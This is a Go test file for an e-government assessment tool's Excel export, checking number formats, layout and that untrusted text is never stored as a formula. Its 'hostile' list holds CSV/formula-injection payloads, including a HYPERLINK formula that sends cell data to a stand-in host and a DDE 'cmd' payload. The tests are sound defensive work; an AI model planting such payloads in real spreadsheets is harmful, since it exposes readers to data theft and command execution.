package sheet

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"math/big"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/spbe-mandiri/spbe-mandiri/assessment"
)

var imported = time.Date(2026, 3, 4, 10, 30, 0, 0, time.Local)

func recapRows() []assessment.RecapRow {
	return []assessment.RecapRow{
		{OPDKode: "DISKOMINFO", OPDNama: "Dinas Komunikasi, Informatika, Statistik dan Persandian Kabupaten Contoh",
			Periode: 2026, Index: "2.5", Predicate: "Cukup", Complete: true, Answered: 47, Total: 47, Recomputed: true,
			KeyID: "k1", KeyStatus: assessment.KeyVerified, Sequence: 3, BundleID: "b1", CreatedAt: "2026-03-01T08:00:00+07:00",
			Imported: imported, Versions: 2, ClaimedIndex: "2.7276", ClaimedPredicate: "Baik", IndexMismatch: true},
		{OPDKode: "BAPPEDA", OPDNama: "Bappeda", Periode: 2026, Index: "", Answered: 0, Total: 47,
			KeyStatus: assessment.KeyPending, Conflicts: 1},
	}
}

// open reads a workbook written by fn back with excelize.
func open(t *testing.T, fn func(io.Writer) error) (*excelize.File, []byte) {
	t.Helper()
	var buf bytes.Buffer
	if err := fn(&buf); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("the workbook does not open: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f, buf.Bytes()
}

func row(t *testing.T, f *excelize.File, sheet string, n int) []string {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil || len(rows) < n {
		t.Fatalf("%s: %d rows, %v", sheet, len(rows), err)
	}
	return rows[n-1]
}

// assertNumber checks that ref holds the number want, stored as a number
// (no type attribute or t="n", not a string "2,5") shown with numFmt.
func assertNumber(t *testing.T, f *excelize.File, sheet, ref string, want float64, numFmt int) {
	t.Helper()
	typ, err := f.GetCellType(sheet, ref)
	if err != nil || (typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber) {
		t.Errorf("%s!%s: type %v (%v), want a number", sheet, ref, typ, err)
	}
	raw, _ := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
	got, ok := new(big.Rat).SetString(raw)
	if !ok {
		t.Fatalf("%s!%s = %q, not a number", sheet, ref, raw)
	}
	if g, _ := got.Float64(); g != want {
		t.Errorf("%s!%s = %v, want %v", sheet, ref, g, want)
	}
	assertNumFmt(t, f, sheet, ref, numFmt)
}

func assertNumFmt(t *testing.T, f *excelize.File, sheet, ref string, numFmt int) {
	t.Helper()
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	if st.NumFmt != numFmt {
		t.Errorf("%s!%s: number format %d, want %d", sheet, ref, st.NumFmt, numFmt)
	}
}

func assertFrozen(t *testing.T, f *excelize.File, sheet string, keyCol bool) {
	t.Helper()
	p, err := f.GetPanes(sheet)
	if err != nil {
		t.Fatal(err)
	}
	wantX := 0
	if keyCol {
		wantX = 1
	}
	if !p.Freeze || p.YSplit != 1 || p.XSplit != wantX {
		t.Errorf("%s: panes %+v, want the header row frozen (and %d key column)", sheet, p, wantX)
	}
}

func TestRecapWorkbook(t *testing.T) {
	f, _ := open(t, func(w io.Writer) error { return WriteRecap(w, recapRows()) })
	if got := f.GetSheetList(); !slices.Equal(got, []string{SheetRecap}) {
		t.Fatalf("sheets %q, want [%s]", got, SheetRecap)
	}
	if got := row(t, f, SheetRecap, 1); !slices.Equal(got, RecapHeaders) {
		t.Errorf("header %q", got)
	}
	for _, h := range []string{"Kode OPD", "Nama OPD", "Periode", "Indeks", "Predikat", "Catatan"} {
		if !slices.Contains(RecapHeaders, h) {
			t.Errorf("no column %q", h)
		}
	}
	assertNumber(t, f, SheetRecap, "D2", 2.5, fmtDecimal2)        // Indeks
	assertNumber(t, f, SheetRecap, "P2", 2.7276, fmtDecimal2)     // Indeks menurut OPD, full precision kept
	assertNumber(t, f, SheetRecap, "C2", 2026, fmtInteger)        // Periode
	assertNumber(t, f, SheetRecap, "J2", 3, fmtInteger)           // Nomor urut
	assertNumber(t, f, SheetRecap, "L2", 46085.4375, fmtDateTime) // 2026-03-04 10:30 local
	if v, _ := f.GetCellValue(SheetRecap, "D2"); v != "2.50" {
		t.Errorf("D2 shows %q, want 2.50 (the reader's locale turns it into 2,50)", v)
	}
	// Nothing answered: the index cell is empty, not "–" or 0.
	if v, _ := f.GetCellValue(SheetRecap, "D3"); v != "" {
		t.Errorf("D3 = %q, want empty", v)
	}
	if v, _ := f.GetCellValue(SheetRecap, "S3"); !strings.Contains(v, "1 konflik") {
		t.Errorf("Catatan = %q", v)
	}
	assertFrozen(t, f, SheetRecap, true)
	long, _ := f.GetColWidth(SheetRecap, "B")
	short, _ := f.GetColWidth(SheetRecap, "C")
	if long <= 9.140625 || long > maxWidth || short >= long {
		t.Errorf("widths: Nama OPD %v, Periode %v; want the name wider than the default 9.14 and ≤ %d", long, short, maxWidth)
	}
}

func TestExcelTime(t *testing.T) {
	serial := excelTime(imported)
	back, err := excelize.ExcelDateToTime(serial, false)
	if err != nil {
		t.Fatal(err)
	}
	if want := time.Date(2026, 3, 4, 10, 30, 0, 0, time.UTC); !back.Equal(want) {
		t.Errorf("serial %v reads back as %v, want %v", serial, back, want)
	}
}

// hostile are texts an OPD (or a stick) can put into any text field.
var hostile = []string{
	`=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik di sini")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	"=1+1\n=2+2",
}

func TestTextNeverAFormula(t *testing.T) {
	var rows []assessment.RecapRow
	for _, s := range hostile {
		rows = append(rows, assessment.RecapRow{OPDKode: s, OPDNama: s, Predicate: s, Index: s})
	}
	f, data := open(t, func(w io.Writer) error { return WriteRecap(w, rows) })
	for i, s := range hostile {
		for _, col := range []string{"A", "B", "D", "E"} {
			ref := col + string(rune('2'+i))
			typ, _ := f.GetCellType(SheetRecap, ref)
			if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("%s (%q): type %v, want a string", ref, s, typ)
			}
			if fo, _ := f.GetCellFormula(SheetRecap, ref); fo != "" {
				t.Errorf("%s: formula %q", ref, fo)
			}
			if v, _ := f.GetCellValue(SheetRecap, ref); v != s {
				t.Errorf("%s = %q, want %q", ref, v, s)
			}
		}
	}
	for name, part := range parts(t, data) {
		if strings.HasPrefix(name, "xl/worksheets/") && (strings.Contains(part, "<f>") || strings.Contains(part, "<f ")) {
			t.Errorf("%s holds a formula element:\n%s", name, part)
		}
	}
}

// parts are the workbook's XML parts; each must be well-formed XML.
func parts(t *testing.T, data []byte) map[string]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, zf := range zr.File {
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		d := xml.NewDecoder(bytes.NewReader(b))
		for {
			if _, err := d.Token(); err != nil {
				if !errors.Is(err, io.EOF) {
					t.Errorf("%s is not well-formed XML: %v", zf.Name, err)
				}
				break
			}
		}
		out[zf.Name] = string(b)
	}
	return out
}

// TestOddText: control characters, broken UTF-8 and a text longer than
// a cell holds still give a workbook that opens.
func TestOddText(t *testing.T) {
	odd := []string{"a\x00b\x01c\x1bd", "\xff\xfe broken", strings.Repeat("panjang ", 5000), "  spasi di tepi  "}
	var items []assessment.ReviewItem
	for i, s := range odd {
		items = append(items, assessment.ReviewItem{Indicator: i + 1, Answered: true, Level: 2, Justification: s,
			Evidence: []assessment.ReviewEvidence{{Name: s, Level: 2}}, Note: s})
	}
	f, data := open(t, func(w io.Writer) error {
		return WriteReview(w, assessment.ReviewBundle{OPDKode: "X", OPDNama: odd[0]}, items, nil)
	})
	parts(t, data)
	if v, _ := f.GetCellValue(SheetReview, "E5"); v != odd[3] {
		t.Errorf("edge spaces: %q", v)
	}
	if v, _ := f.GetCellValue(SheetReview, "E4"); len(v) < 32000 || len(v) > 40000 {
		t.Errorf("long text: %d characters kept", len(v))
	}
}

func TestConsolidationWorkbook(t *testing.T) {
	cat := &assessment.Catalog{Indicators: []assessment.Indicator{{Number: 1, Name: "Kebijakan Internal Arsitektur SPBE Instansi Pusat/Pemerintah Daerah"}}}
	cv := assessment.ConsolidationView{Periode: 2026, CatalogID: "spbe-2020", CatalogVersion: "1.0.0",
		Score:           assessment.Score{Index: big.NewRat(53, 20), Predicate: "Baik", Answered: 1, Total: 47},
		ExcludedRevoked: []string{"DISHUB"},
		Rows: []assessment.ConsolidationRow{
			{Indicator: 1, Value: "2.5", Source: assessment.SourceSettled, FromOPD: "DISKOMINFO", Note: "=1+1", SetBy: "Asesor",
				SetAt: imported, Candidates: []assessment.ConsolidationCandidate{{OPDKode: "DISKOMINFO", Level: 3, Value: "2.5",
					ReviewStatus: assessment.ReviewAccepted}, {OPDKode: "BAPPEDA"}}},
			{Indicator: 2, Responsible: []string{"BAPPEDA"}},
		}}
	f, _ := open(t, func(w io.Writer) error { return WriteConsolidation(w, cv, cat) })
	if got := f.GetSheetList(); !slices.Equal(got, []string{SheetConsolidation, SheetSummary}) {
		t.Fatalf("sheets %q", got)
	}
	if got := row(t, f, SheetConsolidation, 1); !slices.Equal(got, ConsolidationHeaders) {
		t.Errorf("header %q", got)
	}
	assertNumber(t, f, SheetConsolidation, "A2", 1, fmtInteger)
	assertNumber(t, f, SheetConsolidation, "C2", 2.5, fmtDecimal2)
	r2 := row(t, f, SheetConsolidation, 2)
	if r2[1] != cat.Indicators[0].Name || r2[5] != "semua OPD" || r2[10] != "DISHUB" ||
		!strings.Contains(r2[6], "DISKOMINFO: tingkat 3, nilai 2,5 (diterima)\nBAPPEDA: tidak menjawab") {
		t.Errorf("row 2 = %q", r2)
	}
	if r3 := row(t, f, SheetConsolidation, 3); r3[2] != "" || r3[5] != "BAPPEDA" || (len(r3) > 10 && r3[10] != "") {
		t.Errorf("row 3 = %q", r3)
	}
	assertFrozen(t, f, SheetConsolidation, true)
	assertFrozen(t, f, SheetSummary, false)
	assertNumber(t, f, SheetSummary, "B4", 2.65, fmtDecimal2) // Indeks instansi
	if v, _ := f.GetCellValue(SheetSummary, "A4"); v != "Indeks instansi" {
		t.Errorf("A4 = %q", v)
	}
	if i := f.GetActiveSheetIndex(); i != 0 {
		t.Errorf("active sheet %d, want the table", i)
	}
}

func TestReviewWorkbook(t *testing.T) {
	b := assessment.ReviewBundle{BundleID: "b1", OPDKode: "DISKOMINFO", OPDNama: "Diskominfo", Periode: 2026, Sequence: 2,
		Status: "accepted", Index: "2.7276", Predicate: "Baik", Imported: imported, KeyStatus: assessment.KeyVerified}
	items := []assessment.ReviewItem{
		{Indicator: 1, Answered: true, Level: 3, Justification: "FAKTA: ada SK.\nANALISIS: …\nJUSTIFIKASI: tingkat 3",
			Evidence: []assessment.ReviewEvidence{{Name: "SK.pdf", Level: 3}, {Name: "Notulen.pdf", Level: 2}},
			Reviewed: true, Value: "2.5", Status: assessment.ReviewRevision, Reason: assessment.ReasonWrongEvidence, Note: "lihat SK", Revisions: 1},
		{Indicator: 2},
	}
	f, _ := open(t, func(w io.Writer) error { return WriteReview(w, b, items, nil) })
	if got := f.GetSheetList(); !slices.Equal(got, []string{SheetReview, SheetSummary}) {
		t.Fatalf("sheets %q", got)
	}
	if got := row(t, f, SheetReview, 1); !slices.Equal(got, ReviewHeaders) {
		t.Errorf("header %q", got)
	}
	assertNumber(t, f, SheetReview, "D2", 3, fmtInteger)
	assertNumber(t, f, SheetReview, "G2", 2, fmtInteger)
	assertNumber(t, f, SheetReview, "H2", 2.5, fmtDecimal2)
	r2 := row(t, f, SheetReview, 2)
	if r2[5] != "SK.pdf (tingkat 3)\nNotulen.pdf (tingkat 2)" || r2[8] != "revisi" || r2[9] != "bukti tidak tepat" {
		t.Errorf("row 2 = %q", r2)
	}
	if r3 := row(t, f, SheetReview, 3); r3[2] != "tidak" || r3[3] != "" || r3[8] != "belum ditelaah" {
		t.Errorf("row 3 = %q", r3)
	}
	// The justification has line breaks: its column wraps.
	id, _ := f.GetCellStyle(SheetReview, "E2")
	if st, _ := f.GetStyle(id); st.Alignment == nil || !st.Alignment.WrapText {
		t.Errorf("E2 does not wrap: %+v", st.Alignment)
	}
	// …and its row is tall enough for its three lines (LibreOffice does
	// not grow it on opening); a one-line row keeps the default.
	if h, _ := f.GetRowHeight(SheetReview, 2); h < 3*lineHeight {
		t.Errorf("row 2 is %v points high, want ≥ %d for three lines", h, 3*lineHeight)
	}
	if h, _ := f.GetRowHeight(SheetReview, 3); h > lineHeight {
		t.Errorf("row 3 is %v points high", h)
	}
	if d, _ := f.GetSheetDimension(SheetReview); d != "A1:L3" {
		t.Errorf("dimension %q, want A1:L3", d)
	}
	assertFrozen(t, f, SheetReview, true)
	assertNumber(t, f, SheetSummary, "B8", 2.7276, fmtDecimal2) // Indeks
	if v, _ := f.GetCellValue(SheetSummary, "B6"); v != "diterima" {
		t.Errorf("Status bundel = %q", v)
	}
}

// FuzzTextCell: whatever text an OPD bundle carries, the workbook is
// written, opens again, and the text is a string cell, never a formula.
func FuzzTextCell(f *testing.F) {
	for _, s := range append(hostile, "", "a\x00b", "\xff", "2.5", "1e308", "TRUE", "#N/A") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var buf bytes.Buffer
		if err := WriteReview(&buf, assessment.ReviewBundle{OPDKode: s}, []assessment.ReviewItem{{Indicator: 1,
			Justification: s, Note: s, Value: s}}, nil); err != nil {
			t.Fatal(err)
		}
		wb, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
		if err != nil {
			t.Fatalf("%q: the workbook does not open: %v", s, err)
		}
		defer wb.Close()
		for _, ref := range []string{"E2", "K2"} {
			typ, _ := wb.GetCellType(SheetReview, ref)
			if s != "" && typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("%q in %s: type %v", s, ref, typ)
			}
			if fo, _ := wb.GetCellFormula(SheetReview, ref); fo != "" {
				t.Errorf("%q in %s became the formula %q", s, ref, fo)
			}
		}
	})
}

// BenchmarkRecap1000 writes the recap of 1000 OPD rows.
func BenchmarkRecap1000(b *testing.B) {
	rows := make([]assessment.RecapRow, 1000)
	for i := range rows {
		rows[i] = recapRows()[i%2]
	}
	for b.Loop() {
		if err := WriteRecap(io.Discard, rows); err != nil {
			b.Fatal(err)
		}
	}
}
